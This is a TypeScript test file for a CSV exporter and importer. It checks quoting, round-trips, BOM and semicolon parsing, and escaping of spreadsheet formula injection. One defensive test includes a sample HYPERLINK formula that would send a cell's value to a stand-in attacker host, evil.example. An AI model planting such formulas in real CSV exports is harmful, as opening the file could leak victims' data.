import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { parseCsv, toCsv } from '@/commands/core/csv'

describe('csv', () => {
  it('writes a header and quotes values that need it', () => {
    const csv = toCsv(['email', 'note'], [{ email: 'a@example.com', note: 'says "hi", twice\nthen leaves' }, { email: 'b@example.com', note: null }])
    expect(csv).toBe('email,note\r\na@example.com,"says ""hi"", twice\nthen leaves"\r\nb@example.com,')
  })

  it('writes no cell a spreadsheet would run: text starting with = + - @, a tab or a return gets an apostrophe; numbers stay numbers', () => {
    const rows = [
      { first_name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', last_name: '+1+1', phone: '-2', note: '@SUM(A1)', balance: -5 },
      { first_name: '\t=1', last_name: '\r=1', phone: "'=1", note: 'Anna', balance: 12 },
    ]
    const cells = Papa.parse<string[]>(toCsv(['first_name', 'last_name', 'phone', 'note', 'balance'], rows)).data.slice(1)
    expect(cells).toEqual([
      ['\'=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'+1+1", "'-2", "'@SUM(A1)", '-5'],
      ["'\t=1", "'\r=1", "''=1", 'Anna', '12'],
    ])
  })

  it('reads its neutralized cells back to their values, so an export re-imports unchanged', () => {
    const rows = [{ name: '=1+1', phone: '+44 20 7946 0000', note: "'=kept as typed", plain: "'quoted" }]
    expect(parseCsv(toCsv(['name', 'phone', 'note', 'plain'], rows)).rows).toEqual(rows)
  })

  it('never writes a formula and always reads its own cells back (any text, any row)', () => {
    // The importer trims cells by design, so the texts here have no white space at their ends.
    const text = fc.string({ unit: 'grapheme', maxLength: 12 }).map((s) => s.trim())
    const row = fc.record({ a: text, b: text, c: fc.constantFrom('=', '+', '-', '@', "'=", "''-").chain((start) => text.map((rest) => `${start}${rest}`.trim())) })
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 5 }), (rows) => {
        const csv = toCsv(['a', 'b', 'c'], rows)
        for (const cells of Papa.parse<string[]>(csv).data.slice(1)) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
        const back = parseCsv(csv).rows
        // A row of empty cells is an empty line, which the importer skips.
        expect(back).toEqual(rows.filter((r) => r.a || r.b || r.c))
      }),
    )
  })

  it('reads back what it wrote', () => {
    const rows = [{ code: 'VIP-1', uses: '3' }, { code: 'VIP;2', uses: '0' }]
    expect(parseCsv(toCsv(['code', 'uses'], rows)).rows).toEqual(rows)
  })

  it('reads a spreadsheet file: BOM, semicolons, headers in any case, blank lines skipped', () => {
    const parsed = parseCsv('\uFEFFEmail ; First_Name\n anna@example.com ;Anna\n\n\nbo@example.com;Bo\n')
    expect(parsed.columns).toEqual(['email', 'first_name'])
    expect(parsed.rows).toEqual([{ email: 'anna@example.com', first_name: 'Anna' }, { email: 'bo@example.com', first_name: 'Bo' }])
    expect(parsed.errors).toEqual([])
  })

  it('names the line of a malformed row', () => {
    const parsed = parseCsv('email,name\na@example.com,Ann\nb@example.com,"Bo\n')
    expect(parsed.errors[0]?.line).toBe(3)
  })
})

describe('csv line numbers', () => {
  it('counts the header as line 1 for every kind of fault', () => {
    expect(parseCsv('email,name\na,b,c\nd,e\n').errors).toEqual([{ line: 2, message: expect.stringContaining('Too many fields') }])
    expect(parseCsv('email,name\n"a,b\n').errors.map((e) => e.line)).toEqual([2])
  })
})
